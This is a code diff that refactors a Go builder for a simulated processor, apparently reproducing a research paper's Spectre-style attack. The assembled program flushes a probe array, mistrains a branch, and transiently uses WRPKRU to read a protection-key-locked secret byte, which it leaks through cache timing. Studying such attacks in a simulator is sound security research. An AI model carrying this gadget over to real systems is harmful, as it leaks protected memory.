@@ -55,12 +55,17 @@ const (
 	secretIndex = 9
 )
 
-// BuildGadget assembles the self-contained attack program:
-//
-//	flush array2 → train victim (condition true) → set condition false,
-//	flush it → call victim once (the branch mispredicts; the WRPKRU and the
-//	two loads execute transiently) → reload array2 and time every entry.
-func BuildGadget(cfg Config) (*asm.Program, error) {
+// PKRU values of every probe program: all keys open, and the steady state
+// with the secret key access-disabled.
+var (
+	enable  = int64(mpk.AllowAll)
+	disable = int64(mpk.AllowAll.WithKey(SecretKey, mpk.Perm{AD: true}))
+)
+
+// probeProgram starts a probe program: the heap, the secret page array1
+// under SecretKey holding cfg's training and secret bytes, and the probe
+// array array2.
+func probeProgram(cfg Config) *asm.Builder {
 	b := asm.NewBuilder(0x10000)
 	b.Region("heap", heapBase, mem.PageSize, mem.ProtRW, 0)
 	b.Region("secret", array1Base, mem.PageSize, mem.ProtRW, SecretKey)
@@ -71,9 +76,58 @@ func BuildGadget(cfg Config) (*asm.Program, error) {
 	secret[trainIndex] = cfg.TrainValue
 	secret[secretIndex] = cfg.SecretValue
 	b.Data(array1Base, secret)
+	return b
+}
 
-	enable := int64(mpk.AllowAll)
-	disable := int64(mpk.AllowAll.WithKey(SecretKey, mpk.Perm{AD: true}))
+// flushProbe emits the loop that flushes the probe array from every cache
+// level (it clobbers r9 and r10).
+func flushProbe(f *asm.FuncBuilder) {
+	f.Movi(9, ProbeEntries)
+	f.Movi(10, array2Base)
+	f.Label("flush")
+	f.Clflush(10, 0)
+	f.Addi(10, 10, ProbeStride)
+	f.Addi(9, 9, -1)
+	f.Bne(9, isa.RegZero, "flush")
+}
+
+// reloadProbe emits the reload loop, which loads every probe entry off r4
+// in turn, and then halts.
+func reloadProbe(f *asm.FuncBuilder) {
+	f.Movi(9, 0)
+	f.Movi(15, ProbeEntries)
+	f.Label("reload")
+	f.Shli(13, 9, 9) // i * 512
+	f.Add(13, 13, 4)
+	f.Ld(14, 13, 0)
+	f.Addi(9, 9, 1)
+	f.Blt(9, 15, "reload")
+	f.Halt()
+}
+
+// leakSecret emits the body that a mispredicted path runs (paper Listing 1,
+// Fig. 12(c)): open array1, read array1[r12], close it again, and touch the
+// probe entry the byte selects. The PKRU values are load-immediates next to
+// their WRPKRUs, so the §IX-B compiler discipline holds.
+func leakSecret(f *asm.FuncBuilder) {
+	f.Movi(24, enable)
+	f.Wrpkru(24) // enable access for array1
+	f.Add(17, 5, 12)
+	f.Lb(18, 17, 0) // array1[X]
+	f.Movi(25, disable)
+	f.Wrpkru(25) // disable again
+	f.Shli(18, 18, 9)
+	f.Add(18, 18, 4)
+	f.Ld(19, 18, 0) // array2[array1[X]*512]
+}
+
+// BuildGadget assembles the self-contained attack program:
+//
+//	flush array2 → train victim (condition true) → set condition false,
+//	flush it → call victim once (the branch mispredicts; the WRPKRU and the
+//	two loads execute transiently) → reload array2 and time every entry.
+func BuildGadget(cfg Config) (*asm.Program, error) {
+	b := probeProgram(cfg)
 
 	f := b.Func("main")
 	f.Movi(4, array2Base)
@@ -84,13 +138,7 @@ func BuildGadget(cfg Config) (*asm.Program, error) {
 	f.Wrpkru(27) // steady state: secret locked
 
 	// Phase 1: flush the probe array from every cache level.
-	f.Movi(9, ProbeEntries)
-	f.Movi(10, array2Base)
-	f.Label("flush")
-	f.Clflush(10, 0)
-	f.Addi(10, 10, ProbeStride)
-	f.Addi(9, 9, -1)
-	f.Bne(9, isa.RegZero, "flush")
+	flushProbe(f)
 
 	// Phase 2: train the victim branch (condition true, X = trainIndex).
 	f.Movi(9, int64(cfg.TrainRounds))
@@ -124,34 +172,16 @@ func BuildGadget(cfg Config) (*asm.Program, error) {
 	f.Call("victim")
 
 	// Phase 4: reload — time every probe entry.
-	f.Movi(9, 0)
-	f.Movi(15, ProbeEntries)
-	f.Label("reload")
-	f.Shli(13, 9, 9) // i * 512
-	f.Add(13, 13, 4)
-	f.Ld(14, 13, 0)
-	f.Addi(9, 9, 1)
-	f.Blt(9, 15, "reload")
-	f.Halt()
+	reloadProbe(f)
 
-	// The victim (paper Listing 1 / Fig. 12(c)). The PKRU values are
-	// load-immediates adjacent to their WRPKRUs, so this gadget satisfies
-	// the §IX-B compiler discipline — the attack works even under the
-	// paper's compiler assumption, because the problem is the *existence*
-	// of a permission-upgrading WRPKRU on a mispredicted path, not a
+	// The victim. The attack works even under the paper's compiler
+	// assumption, because the problem is the *existence* of a
+	// permission-upgrading WRPKRU on a mispredicted path, not a
 	// speculation-dependent value.
 	v := b.Func("victim")
 	v.Ld(16, 6, 0)                 // condition (slow when flushed)
 	v.Beq(16, isa.RegZero, "skip") // trained not-taken
-	v.Movi(24, enable)
-	v.Wrpkru(24)     // enable access for array1
-	v.Add(17, 5, 12) //
-	v.Lb(18, 17, 0)  // array1[X]
-	v.Movi(25, disable)
-	v.Wrpkru(25)      // disable again
-	v.Shli(18, 18, 9) //
-	v.Add(18, 18, 4)  //
-	v.Ld(19, 18, 0)   // array2[array1[X]*512]
+	leakSecret(v)
 	v.Label("skip")
 	v.Ret()
 
